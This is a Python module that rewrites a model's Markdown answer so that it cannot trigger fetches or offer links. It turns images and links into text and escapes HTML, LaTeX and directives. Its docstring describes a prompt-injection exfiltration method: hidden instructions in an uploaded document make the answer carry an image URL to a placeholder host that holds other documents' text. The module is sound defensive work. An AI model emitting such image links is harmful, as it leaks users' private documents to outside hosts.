"""Model output as Markdown that cannot make the browser fetch anything or offer a link.

An answer can carry instructions hidden in an uploaded document, so its Markdown is
untrusted: an image such as ``![x](http://host/?q=<other documents' text>)`` would be
fetched as soon as the answer is shown. :func:`render` parses the model's Markdown with
markdown-it and writes it back out, keeping headings, lists, emphasis, code, block quotes
and tables, while

* images become a text placeholder, ``[image: alt text, address `…`]``;
* links become their text followed by ``(address: `…`)``; autolinks and bare addresses
  (``http://…``, ``www.…``, e-mail addresses) are shown as inline code, which Streamlit's
  GFM autolinking does not touch (escaping alone would not do: it autolinks the text
  after escapes are resolved);
* raw HTML, reference definitions, ``$`` (LaTeX), Streamlit directives and every other
  piece of syntax in the text are escaped, so the only markup in the result is what this
  module writes itself;
* fenced ``math`` blocks lose their language, so KaTeX never sees them.

:func:`plain` does the same for text that should show literally, such as a quote.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

# Syntax characters that can start markup anywhere in a line. `:` is escaped only before a
# letter, where Streamlit's directives start; `-`, `+`, `=` and `1.` only at a line's start.
_SPECIAL = re.compile(r"([\\`*_~\[\]<>!$&|#{])")
_DIRECTIVE = re.compile(r":(?=[A-Za-z])")
_LIST_NUMBER = re.compile(r"^(\d{1,9})([.)])")
_LINE_MARKER = re.compile(r"^([-+=])")
# Anything Streamlit (GFM autolink literals) or a reader's viewer could turn into a link.
_ADDRESS = re.compile(
    r"[A-Za-z][A-Za-z0-9+.-]*://|\bwww\d{0,3}\.|\b(?:mailto|xmpp|tel|sms):|[\w.+-]+@[\w-]+\.[\w-]",
    re.IGNORECASE,
)
# Where an address shown as code ends (besides whitespace): Markdown and HTML delimiters.
_ADDRESS_END = re.compile(r"[\]<>\"'`]")
_WHITESPACE_RUN = re.compile(r"(\s+)")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")
_LANGUAGE = re.compile(r"^[\w+#.-]{1,40}$")
# Fence languages that Streamlit hands to KaTeX instead of showing as code.
_MATH_LANGUAGES = {"math", "latex", "tex", "katex"}
ADDRESS_CHARS = 300
PLACEHOLDER_ALT_CHARS = 200


def _parser() -> MarkdownIt:
    # Reference definitions stay text: resolving them would make them vanish from the answer.
    parser = MarkdownIt("commonmark", {"maxNesting": 100}).enable(["table", "strikethrough"])
    return parser.disable("reference")


_PARSER = _parser()


def render(text: str) -> str:
    """Safe Markdown for the model's Markdown ``text``; see the module description."""
    if not text:
        return ""
    try:
        tree = SyntaxTreeNode(_PARSER.parse(text))
        return _Writer().blocks(tree.children).strip("\n")
    except Exception:  # markup that trips the parser is still shown, as plain text
        return plain(text)


def plain(text: str) -> str:
    """Markdown that shows ``text`` literally, line breaks kept, addresses as inline code."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return "  \n".join(_text(line.strip(), line_start=True) for line in lines)


def _escape(text: str, line_start: bool) -> str:
    escaped = _DIRECTIVE.sub(r"\\:", _SPECIAL.sub(r"\\\1", text))
    if line_start:
        escaped = _LIST_NUMBER.sub(r"\1\\\2", _LINE_MARKER.sub(r"\\\1", escaped))
    return escaped


def _text(text: str, line_start: bool = False, in_table: bool = False) -> str:
    """Escaped text in which addresses become inline code."""
    # A newline inside text (from an entity or raw HTML) shows as a space in HTML too.
    text = _CONTROL.sub("", text.replace("\n", " "))
    out: list[str] = []
    for index, piece in enumerate(_WHITESPACE_RUN.split(text)):
        if index % 2:
            out.append(piece)
        elif piece:
            out.append(_word(piece, line_start and not "".join(out).strip(), in_table))
    return "".join(out)


def _word(word: str, line_start: bool, in_table: bool) -> str:
    """One word: each address in it, up to a Markdown or HTML delimiter, as code; the rest escaped."""
    out: list[str] = []
    while word:
        address = _ADDRESS.search(word)
        if address is None:
            out.append(_escape(word, line_start))
            break
        end = _ADDRESS_END.search(word, address.end())
        stop = end.start() if end is not None else len(word)
        out += [_escape(word[: address.start()], line_start), _code(word[address.start():stop], in_table)]
        word, line_start = word[stop:], False
    return "".join(out)


def _code(content: str, in_table: bool = False) -> str:
    """An inline code span showing ``content`` exactly (on one line)."""
    content = _CONTROL.sub("", " ".join(content.splitlines()))
    if not content:
        return ""
    if in_table:
        content = content.replace("|", "\\|")
    runs = [len(run) for run in re.findall(r"`+", content)]
    fence = "`" * (max(runs, default=0) + 1)
    if content[0] == "`" or content[-1] == "`" or (content[0] == " " and content[-1] == " "):
        content = f" {content} "
    return f"{fence}{content}{fence}"


def _address(url: str, in_table: bool) -> str:
    url = " ".join(_PARSER.normalizeLinkText(url).split())
    if len(url) > ADDRESS_CHARS:
        url = url[: ADDRESS_CHARS - 1] + "…"
    return _code(url, in_table)


def _flat_text(node: SyntaxTreeNode) -> str:
    """The words of an inline node and its children, without any markup (for image alt text)."""
    if node.type in ("text", "code_inline", "html_inline"):
        return node.content
    if node.type in ("softbreak", "hardbreak"):
        return " "
    if node.type == "image":
        return _flat_text_of(node.children) or node.attrs.get("alt", "") or ""
    return _flat_text_of(node.children)


def _flat_text_of(nodes: Iterable[SyntaxTreeNode]) -> str:
    return "".join(_flat_text(child) for child in nodes)


def _prefix(text: str, first: str, rest: str, blank: str = "") -> str:
    lines = text.split("\n")
    out = [first + lines[0] if lines[0] else first.rstrip() or blank]
    out += [rest + line if line else blank for line in lines[1:]]
    return "\n".join(out)


class _Writer:
    """Turns markdown-it's syntax tree back into Markdown, one node type at a time."""

    def blocks(self, nodes: Iterable[SyntaxTreeNode], tight: bool = False) -> str:
        parts = [self.block(node, tight) for node in nodes]
        return ("\n" if tight else "\n\n").join(part for part in parts if part)

    def block(self, node: SyntaxTreeNode, tight: bool = False) -> str:
        kind = node.type
        if kind == "paragraph":
            return self.inline(node.children)
        if kind == "heading":
            level = int(node.tag[1]) if node.tag[1:].isdigit() else 1
            return ("#" * level + " " + self.inline(node.children, in_heading=True)).rstrip()
        if kind in ("bullet_list", "ordered_list"):
            return self.list(node)
        if kind == "blockquote":
            return _prefix(self.blocks(node.children), "> ", "> ", ">")
        if kind in ("fence", "code_block"):
            return self.code_block(node)
        if kind == "hr":
            return "***"
        if kind == "table":
            return self.table(node)
        if kind == "html_block":
            paragraphs = re.split(r"\n\s*\n", node.content.strip())
            return "\n\n".join(plain(paragraph) for paragraph in paragraphs if paragraph.strip())
        if kind == "inline":
            return self.inline(node.children)
        return self.blocks(node.children, tight)

    def list(self, node: SyntaxTreeNode) -> str:
        paragraphs = [c for item in node.children for c in item.children if c.type == "paragraph"]
        tight = all(p.hidden for p in paragraphs)
        ordered = node.type == "ordered_list"
        start = int(node.attrs.get("start", 1) or 1) if ordered else 0
        delimiter = node.markup if node.markup in (".", ")") else "."
        bullet = node.markup if node.markup in ("-", "*", "+") else "-"
        items = []
        for number, item in enumerate(node.children, start):
            marker = f"{number}{delimiter}" if ordered else bullet
            body = self.blocks(item.children, tight)
            items.append(_prefix(body, marker + " ", " " * (len(marker) + 1)))
        return ("\n" if tight else "\n\n").join(items)

    def code_block(self, node: SyntaxTreeNode) -> str:
        content = node.content if node.content.endswith("\n") else node.content + "\n"
        runs = [len(run) for run in re.findall(r"`{3,}", content)]
        fence = "`" * max(3, max(runs, default=0) + 1)
        words = (node.info or "").split()
        language = words[0] if words and _LANGUAGE.match(words[0]) else ""
        if language.lower() in _MATH_LANGUAGES:
            language = ""
        return f"{fence}{language}\n{content}{fence}"

    def table(self, node: SyntaxTreeNode) -> str:
        rows: list[list[SyntaxTreeNode]] = []
        for section in node.children:
            rows += [list(row.children) for row in section.children]
        if not rows:
            return ""
        lines = []
        for number, cells in enumerate(rows):
            texts = [self.inline(cell.children, in_table=True) for cell in cells]
            lines.append("| " + " | ".join(texts) + " |")
            if number == 0:
                lines.append("| " + " | ".join(_alignment(cell) for cell in cells) + " |")
        return "\n".join(lines)

    def inline(self, nodes: Iterable[SyntaxTreeNode], in_table: bool = False, in_heading: bool = False) -> str:
        # A paragraph's inline content is a single "inline" node.
        nodes = [child for node in nodes for child in (node.children if node.type == "inline" else [node])]
        out: list[str] = []
        line_start = True
        for node in nodes:
            out.append(self.phrase(node, line_start, in_table, in_heading))
            line_start = node.type in ("softbreak", "hardbreak") and not in_heading
        return "".join(out)

    def phrase(self, node: SyntaxTreeNode, line_start: bool, in_table: bool, in_heading: bool) -> str:
        kind = node.type
        if kind in ("text", "text_special", "html_inline"):
            return _text(node.content, line_start, in_table)
        if kind == "code_inline":
            return _code(node.content, in_table)
        if kind == "softbreak":
            return " " if in_heading or in_table else "\n"
        if kind == "hardbreak":
            return " " if in_heading or in_table else "  \n"
        if kind == "image":
            return self.image(node, in_table)
        inner = self.inline(node.children, in_table, in_heading)
        if kind == "link":
            return self.link(node, inner, in_table)
        markers = {"em": "*", "strong": "**", "s": "~~"}
        if kind in markers:
            return f"{markers[kind]}{inner}{markers[kind]}" if inner else ""
        return inner

    def link(self, node: SyntaxTreeNode, inner: str, in_table: bool) -> str:
        url = str(node.attrs.get("href", "") or "")
        if not url:
            return inner
        words = _flat_text_of(node.children).strip()
        if node.markup in ("autolink", "linkify") or not words or words in (url, url.removeprefix("mailto:")):
            return _address(url, in_table)
        return f"{inner} (address: {_address(url, in_table)})"

    def image(self, node: SyntaxTreeNode, in_table: bool) -> str:
        alt = " ".join(_flat_text(node).split())
        if len(alt) > PLACEHOLDER_ALT_CHARS:
            alt = alt[: PLACEHOLDER_ALT_CHARS - 1] + "…"
        url = str(node.attrs.get("src", "") or "")
        parts = ["image: " + _text(alt, in_table=in_table) if alt else "image"]
        if url:
            parts.append("address " + _address(url, in_table))
        return "\\[" + ", ".join(parts) + "\\]"


def _alignment(cell: SyntaxTreeNode) -> str:
    style = str(cell.attrs.get("style", "") or "")
    if "center" in style:
        return ":---:"
    if "right" in style:
        return "---:"
    if "left" in style:
        return ":---"
    return "---"
